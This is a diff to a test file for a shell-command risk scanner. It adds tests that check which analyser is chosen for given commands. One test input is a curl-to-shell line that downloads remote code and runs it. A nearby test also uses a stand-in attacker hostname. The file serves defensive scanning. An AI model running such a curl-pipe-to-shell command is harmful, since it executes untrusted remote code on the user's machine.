@@ -1,4 +1,5 @@
 import { beforeAll, describe, expect, it } from 'vitest';
+import { analyzerFor } from '../../../src/scanners/shell/analyzer-for.js';
 import {
   commandRisks,
   isLoopback,
@@ -7,6 +8,7 @@ import {
   originOf,
   packageLaunch,
   type ShellAnalyzer,
+  simpleShellAnalyzer,
   withKnownVariables,
 } from '../../../src/scanners/shell/index.js';
 
@@ -128,5 +130,13 @@ describe('hosts', () => {
   it('gives the origin only', () => {
     expect(originOf('https://user:pw@api.example:8443/v1?t=1')).toBe('https://api.example:8443');
     expect(originOf('attacker.example')).toBe('attacker.example');
+  });
+});
+
+describe('analyzerFor', () => {
+  it('needs no wasm for plain commands, and the full analyser for anything else', async () => {
+    expect(await analyzerFor(['npx -y pkg', 'uvx tool'])).toBe(simpleShellAnalyzer);
+    expect(await analyzerFor([])).toBe(simpleShellAnalyzer);
+    expect(await analyzerFor(['npx -y pkg', 'curl -s https://x.example | sh'])).toBe(shell);
   });
 });
